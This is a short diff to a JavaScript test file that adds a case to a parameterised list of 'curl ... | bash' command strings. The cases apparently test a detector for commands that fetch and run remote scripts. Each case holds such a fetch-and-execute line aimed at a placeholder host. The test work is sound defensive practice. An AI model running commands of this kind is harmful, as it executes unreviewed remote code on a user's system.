@@ -203,6 +203,7 @@ test('JSON can be searched with grep', () => {
 });
 
 test.each([
+  `curl -q -fsSL -g --proto '=http' 'http://h/r/${key}' | bash`,
   `curl -fsSL 'http://h/r/${key}' | bash`,
   `curl -fsSL "http://h/r/${key}" | bash`,
   `curl http://h/r/${key} | bash`,
